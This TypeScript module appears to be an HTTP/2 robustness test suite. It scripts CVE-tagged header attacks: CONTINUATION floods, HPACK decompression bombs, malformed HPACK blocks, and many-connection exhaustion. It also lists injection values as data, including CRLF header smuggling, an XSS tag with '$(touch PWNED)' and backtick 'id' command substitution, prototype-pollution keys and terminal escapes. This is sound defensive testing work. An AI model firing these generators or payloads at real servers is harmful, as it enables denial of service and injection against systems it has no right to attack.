// Attacks with header blocks: HPACK that is broken, that swells, that never ends; names and values that no honest peer sends.
import { encodeFrame, encodeGoaway, encodeSettings } from "../../../src/http2/frame-writer.js";
import { FLAG, FRAME } from "../../../src/http2/frames.js";
import { encodeFields } from "../../../src/http2/hpack/encoder.js";
import type { Field } from "../../../src/model/fields.js";
import {
  block,
  bytesOf,
  CLIENT_OPENS,
  clientOpening,
  flood,
  headers,
  made,
  NOTHING,
  REQUEST,
  RESPONSE,
  same,
  streams,
  tableEntry,
  tableSize,
} from "../bytes.js";
import type { Attack, Sizes } from "../script.js";
import { CLIENT_SCRIPT, concat, either, OPEN_CALL, oneSided, SERVER_SCRIPT } from "./frames.js";

const MIB = 1024 * 1024;
const FLOOD: Sizes = { quick: MIB / 4, full: 16 * MIB };

/** A frame that begins a header block and does not end it. */
function begins(stream: number, octets: Uint8Array): Uint8Array {
  return encodeFrame(FRAME.headers, 0, stream, octets);
}

function goesOn(stream: number, octets: Uint8Array, ends = false): Uint8Array {
  return encodeFrame(FRAME.continuation, ends ? FLAG.endHeaders : 0, stream, octets);
}

const REQUEST_BLOCK = encodeFields(REQUEST);

const CONTINUATIONS: readonly Attack[] = [
  ...either("CONTINUATION without end, 16 KiB each", "CVE-2024-27316", (bytes) =>
    concat([begins(1, REQUEST_BLOCK)], flood(goesOn(1, same(0x82, 16_384)), bytes)),
  ),
  ...either("CONTINUATION without end, of no octets", "CVE-2024-28182", (bytes) =>
    concat([begins(1, REQUEST_BLOCK)], flood(goesOn(1, NOTHING), bytes)),
  ),
  ...either("CONTINUATION without end, one octet each", "CVE-2023-45288", (bytes) =>
    concat([begins(1, REQUEST_BLOCK)], flood(goesOn(1, same(0x82, 1)), bytes)),
  ),
  oneSided("client", "blocks of 1 MiB, one after the other", "CVE-2024-27983", (bytes) =>
    made(bytes, (i) => {
      const id = 3 + 2 * i;
      const pieces = Array.from({ length: 63 }, (_, at) => goesOn(id, same(0x82, 16_384), at === 62));
      return bytesOf(begins(id, REQUEST_BLOCK), ...pieces);
    }),
  ),
  oneSided("client", "blocks cut into octets", "RFC 9113 §6.10", (bytes) =>
    streams(
      bytesOf(
        begins(1, NOTHING),
        ...Array.from(REQUEST_BLOCK, (octet, at) => goesOn(1, Uint8Array.of(octet), at === REQUEST_BLOCK.length - 1)),
      ),
      bytes,
      3,
    ),
  ),
  oneSided("client", "blocks with other frames inside", "RFC 9113 §6.10", (bytes) =>
    streams(
      bytesOf(begins(1, REQUEST_BLOCK), encodeFrame(FRAME.data, 0, 1, same(0, 5)), goesOn(1, NOTHING, true)),
      bytes,
      3,
    ),
  ),
  {
    ...oneSided("client", "many connections with a block of 1 MiB open", "CVE-2024-27983", (bytes) =>
      concat([begins(3, REQUEST_BLOCK)], flood(goesOn(3, same(0x82, 16_384)), bytes)),
    ),
    client: {
      ...OPEN_CALL,
      main: (bytes) => concat([begins(3, REQUEST_BLOCK)], flood(goesOn(3, same(0x82, 16_384)), bytes)),
      end: "stay",
    },
    server: { ...SERVER_SCRIPT, end: "stay" },
    bytes: { quick: 128 * 1024, full: 960 * 1024 },
    connections: { quick: 10, full: 150 },
  },
];

/** 1-octet references to the static table: `:method: GET`. */
const REFERENCES = same(0x82, 16_000);

/** A distinct field, so that no block is like the one before. */
function counter(index: number): Uint8Array {
  return bytesOf([0x10, 1, 0x6e, 4], Buffer.from((index % 65_536).toString(16).padStart(4, "0")));
}

function bomb(entryBytes: number, references: number): (bytes: number) => Iterable<Uint8Array> {
  const entry = tableEntry("x", "v".repeat(entryBytes - 33));
  // The newest entry is index 62.
  return (bytes) =>
    concat(
      [block(3, bytesOf(REQUEST_BLOCK, entry), true)],
      made(bytes, (i) => block(5 + 2 * i, bytesOf(REQUEST_BLOCK, counter(i), same(0xbe, references)), true)),
    );
}

const BOMBS: readonly Attack[] = [
  {
    name: "HTTP/2 bomb: 16,000 fields of one octet a block, held by windows of none",
    source: "CVE-2026-49975, CVE-2026-47774",
    from: "client",
    client: {
      open: clientOpening([[4, 0]]),
      main: (bytes) => streams(block(1, bytesOf(REQUEST_BLOCK, REFERENCES), true), bytes),
      end: "stay",
    },
    server: { ...SERVER_SCRIPT, end: "stay" },
    bytes: FLOOD,
  },
  oneSided("client", "HTTP/2 bomb, no block like another", "CVE-2026-47774", (bytes) =>
    made(bytes, (i) => block(3 + 2 * i, bytesOf(REQUEST_BLOCK, counter(i), REFERENCES), true)),
  ),
  oneSided("server", "HTTP/2 bomb in answers", "CVE-2026-49975", (bytes) =>
    made(bytes, (i) => block(1, bytesOf(same(0x88, 1), counter(i), same(0x88, 2000)))),
  ),
  oneSided("client", "HPACK bomb: an entry of 4 KiB, 16,000 references a block", "CVE-2016-6581", bomb(4096, 16_000)),
  oneSided("client", "HPACK bomb: an entry of 4 KiB, 250 references a block", "CVE-2016-6581", bomb(4096, 250)),
  oneSided("client", "HPACK bomb: an entry of 4 KiB, 30 references a block", "CVE-2016-6581", bomb(4096, 30)),
  oneSided("client", "HPACK bomb in trailers that end nothing", "CVE-2016-6581", (bytes) =>
    concat(
      [block(3, bytesOf(REQUEST_BLOCK, tableEntry("x", "v".repeat(4000))))],
      made(bytes, (i) => block(3, bytesOf(counter(i), same(0xbe, 30)))),
    ),
  ),
  {
    name: "HPACK bomb: both sides announce tables of 4 GiB, an entry of 60 KiB, 30 references a block",
    source: "CVE-2016-1544",
    from: "both",
    client: {
      open: clientOpening([[1, 0xffffffff]]),
      main: (bytes) =>
        concat(
          [block(1, bytesOf(tableSize(1_000_000), REQUEST_BLOCK, tableEntry("x", "v".repeat(60_000))), true)],
          made(bytes, (i) => block(3 + 2 * i, bytesOf(REQUEST_BLOCK, counter(i), same(0xbe, 30)), true)),
        ),
    },
    server: { open: encodeSettings([[1, 0xffffffff]]) },
    bytes: FLOOD,
  },
  {
    name: "tables of 4 GiB announced by both, filled without end",
    source: "CVE-2016-1544",
    from: "both",
    client: {
      open: clientOpening([[1, 0xffffffff]]),
      main: (bytes) =>
        concat(
          [block(1, bytesOf(tableSize(0x7fffffff), REQUEST_BLOCK), true)],
          made(bytes, (i) => block(3 + 2 * i, bytesOf(REQUEST_BLOCK, tableEntry(`n${i}`, "v".repeat(2000))), true)),
        ),
    },
    server: { open: encodeSettings([[1, 0xffffffff]]) },
    bytes: FLOOD,
  },
  {
    name: "tables full of empty entries on many connections",
    source: "CVE-2016-1544",
    from: "both",
    client: {
      open: clientOpening([[1, 1024 * 1024]]),
      main: (bytes) => fillTable(bytes, 1, REQUEST),
      end: "stay",
    },
    server: {
      open: bytesOf(encodeSettings([[1, 1024 * 1024]])),
      main: (bytes) => fillTable(bytes, 1, RESPONSE),
      end: "stay",
    },
    bytes: { quick: 30_000, full: 98_000 },
    connections: { quick: 10, full: 100 },
  },
  oneSided("client", "a table of ever new entries", "CVE-2016-1544", (bytes) =>
    made(bytes, (i) =>
      block(
        3 + 2 * i,
        bytesOf(REQUEST_BLOCK, ...Array.from({ length: 20 }, (_, k) => tableEntry(`k${i}`, `v${k}`))),
        true,
      ),
    ),
  ),
  oneSided("client", "table size updates by the thousand", "RFC 7541 §4.2", (bytes) =>
    made(bytes, (i) =>
      block(3 + 2 * i, bytesOf(...new Array<Uint8Array>(2000).fill(same(0x20, 1)), REQUEST_BLOCK), true),
    ),
  ),
  oneSided("client", "fields without name and value", "CVE-2019-9516", (bytes) =>
    streams(block(1, bytesOf(REQUEST_BLOCK, same(0, 3 * 5000)), true), bytes, 3),
  ),
  oneSided("client", "8,000 different fields a block", "CVE-2019-9516", (bytes) => {
    const fields = encodeFields(Array.from({ length: 8000 }, (_, k): Field => [`x-${k}`, "1"]));
    return made(bytes, (i) => block(3 + 2 * i, bytesOf(REQUEST_BLOCK, counter(i), fields), true));
  }),
  oneSided("client", "a path of 900 KiB", "RFC 9113 §10.5.1", (bytes) =>
    made(bytes, (i) =>
      block(3 + 2 * i, encodeFields([[":path", `/${"a".repeat(900_000)}${i}`]], { huffman: false }), true),
    ),
  ),
  oneSided("client", "a value of 900 KiB, not ASCII", "RFC 9113 §10.5.1", (bytes) =>
    made(bytes, (i) =>
      block(3 + 2 * i, encodeFields([["x", `${"\xe9".repeat(900_000)}${i}`]], { huffman: false }), true),
    ),
  ),
  oneSided("client", "20,000 different methods", "RFC 9113 §8.3.1", (bytes) =>
    // 0x04: a literal without indexing whose name is :path; 0x4a: 74 octets.
    made(bytes, (i) => block(3 + 2 * i, bytesOf([0x83, 0x86, 0x04, 0x4a], `/m/${String(i).padStart(71, "0")}`), true)),
  ),
];

function fillTable(bytes: number, stream: number, fields: readonly Field[]): Iterable<Uint8Array> {
  // 0x40 0 0: a literal with indexing, its name and value empty.
  const entries = flood(Uint8Array.of(0x40, 0, 0), bytes);
  return concat([block(stream, bytesOf(tableSize(1024 * 1024), encodeFields(fields)))], wrapped(entries, stream));
}

function* wrapped(octets: Iterable<Uint8Array>, stream: number): Iterable<Uint8Array> {
  for (const piece of octets) yield block(stream, piece);
}

/** Blocks that cannot be read; each goes to a connection of its own, and honest-looking calls follow it. */
const BROKEN: readonly (readonly number[])[] = [
  [0x80], // index 0
  [0xbe], // index 62 of an empty table
  [0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f], // an integer without end
  [0xff, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x00], // zeros without end
  [0xff, 0xff], // an integer cut
  [0x3f, 0xe1, 0xff, 0xff, 0xff, 0x07], // a table of 2 GiB
  [0x82, 0x20], // a size update after a field
  [0x00, 0x7f, 0xff, 0xff, 0xff, 0xff, 0x07], // a name of 2 GiB
  [0x00, 0x05, 0x61], // a name cut
  [0x00, 0x01, 0x61, 0x84, 0xff, 0xff, 0xff, 0xff], // EOS
  [0x00, 0x01, 0x61, 0x81, 0x00], // padding of zeros
  [0x00, 0x01, 0x61, 0x82, 0xff, 0xff], // padding of two octets
  [0x40], // nothing where a name is due
  [0x0f], // an index cut
  [0x7f, 0xff, 0xff, 0xff, 0xff, 0x0f, 0x01, 0x61], // a name by an index out of range
];

const HPACK: readonly Attack[] = [
  ...either(
    "header blocks that cannot be read",
    "CVE-2023-33953, CVE-2024-7246; RFC 7541",
    (bytes, connection) =>
      concat(
        [block(3, Uint8Array.from(BROKEN[connection % BROKEN.length]!), true)],
        streams(headers(1, REQUEST, true), bytes, 5),
      ),
    { bytes: { quick: 16_384, full: MIB }, connections: { quick: BROKEN.length, full: BROKEN.length } },
  ),
  {
    name: "noise as header blocks",
    source: "RFC 7541",
    from: "client",
    client: {
      ...CLIENT_SCRIPT,
      main: (_, connection) => [block(1, Buffer.from(`${connection}${Math.sin(connection)}`, "latin1"), true)],
    },
    server: SERVER_SCRIPT,
    bytes: { quick: 0, full: 0 },
    connections: { quick: 100, full: 2000 },
    atOnce: 20,
  },
];

const ESC = "\x1b[31m\x1b]0;owned\x07\x9b2J\r\n\u007f\x00\x85";
/** UTF-8 of U+202E (right to left), U+2066, U+2028, U+FEFF and U+009B, one char per octet. */
const BIDI = Buffer.from("\u202e\u2066\u2028\ufeff\u009b", "utf8").toString("latin1");

const ODD_FIELDS: readonly (readonly Field[])[] = [
  [...REQUEST, ["X-Upper", "1"], ["a b", "1"], ["", "1"], [":", "1"], ["a:b", "1"]],
  [...REQUEST, ["crlf", "1\r\nhost: evil\r\n\r\nGET / HTTP/1.1"], ["nul", "a\x00b"], ["\r\n", "\r\n"]],
  [...REQUEST, ...REQUEST, [":path", "/second"], [":method", "GET"], [":evil", "1"], [":status", "200"]],
  [["late", "1"], ...REQUEST],
  [
    [":method", "CONNECT"],
    [":authority", "127.0.0.1:1"],
    [":protocol", "websocket"],
  ],
  [...REQUEST, ["transfer-encoding", "chunked"], ["connection", "close"], ["content-length", "-1"], ["te", "gzip"]],
  [...REQUEST, ["a-bin", "%%%%"], ["b-bin", "=".repeat(100)], ["c-bin", "A"], ["d-bin", ",,,,"], ["e-bin", "\xff\xfe"]],
  [...REQUEST, ["grpc-timeout", "999999999999S"], ["grpc-timeout", "-1m"], ["grpc-timeout", "5"], ["grpc-timeout", ""]],
  [...REQUEST, ["grpc-encoding", "x".repeat(5000)], ["grpc-encoding", "__proto__"], ["grpc-accept-encoding", ESC]],
  [...REQUEST, ["__proto__", "1"], ["constructor", "1"], ["prototype", "1"], ["toString", "1"], ["hasOwnProperty", ""]],
  [
    [":method", ESC],
    [":scheme", ESC],
    [":path", `/${ESC}${BIDI}`],
    [":authority", ESC],
    ["content-type", "application/grpc"],
  ],
  [...REQUEST.slice(0, 2), [":path", "/__proto__/constructor"], ["content-type", "application/grpc"]],
  [...REQUEST.slice(0, 2), [":path", "{bold}{/}<img src=x onerror=alert(1)>$(touch PWNED)`id`'; --"]],
  [...REQUEST, ["escape", ESC], [ESC, BIDI], ["x-\u202e", "1"]],
  [],
];

const ODD_ANSWERS: readonly (readonly Field[])[] = [
  [...RESPONSE, ["grpc-status", "OK"], ["grpc-message", "%"]],
  [...RESPONSE, ["grpc-status", "99999999999999999999"], ["grpc-message", "%zz%ff%fe%00%0a%1b[31m"]],
  [...RESPONSE, ["grpc-status", "-1"], ["grpc-message", `${ESC}${BIDI}`]],
  [...RESPONSE, ["grpc-status", "13"], ["grpc-message", "%1b%5b2J%c2%9b2J%e2%80%ae%e2%80%a8%0d%0a%07"]],
  [...RESPONSE, ["grpc-status", "2"], ["grpc-message", "m".repeat(100_000)]],
  [...RESPONSE, ["grpc-status", ESC], ["grpc-message", "x"]],
  [
    [":status", ESC],
    ["content-type", ESC],
  ],
  [
    [":status", "000"],
    ["grpc-status", ""],
  ],
  [
    [":status", "200"],
    [":status", "500"],
    ["grpc-status", "0"],
    ["grpc-status", "14"],
  ],
  [[":status", "99999999999999999999"]],
  [["grpc-status-details-bin", "!!!!"], ...RESPONSE, ["grpc-status", "5"]],
  [],
];

const ODD: readonly Attack[] = [
  oneSided(
    "client",
    "odd names, values and pseudo-header fields",
    "GHSA-847f-9342-265h, CVE-2023-32732, CVE-2021-25743",
    (bytes) => made(bytes, (i) => headers(3 + 2 * i, ODD_FIELDS[i % ODD_FIELDS.length]!, true)),
  ),
  {
    name: "odd statuses, messages and answers",
    source: "CVE-2021-25743, CVE-2026-25996",
    from: "server",
    client: { ...CLIENT_SCRIPT, main: (bytes) => streams(headers(1, REQUEST, true), bytes) },
    server: {
      ...SERVER_SCRIPT,
      main: (bytes) => made(bytes, (i) => headers(1 + 2 * i, ODD_ANSWERS[i % ODD_ANSWERS.length]!, true)),
    },
    bytes: { quick: 256 * 1024, full: 8 * MIB },
  },
  oneSided(
    "server",
    "terminal escapes in the text of GOAWAY",
    "CVE-2021-25743",
    () => [encodeGoaway(1, 11, bytesOf(ESC, BIDI)), encodeGoaway(0, 0x1b5b324a, bytesOf(ESC))],
    { bytes: { quick: 1, full: 1 } },
  ),
  oneSided("client", "frames and ids that end up in messages of ours", "CWE-150", (bytes) =>
    flood(bytesOf(CLIENT_OPENS, encodeFrame(0x1b, 0x5b, 0x1b5b324a, bytesOf(ESC))), bytes),
  ),
];

export const HEADER_ATTACKS: readonly Attack[] = [...CONTINUATIONS, ...BOMBS, ...HPACK, ...ODD];
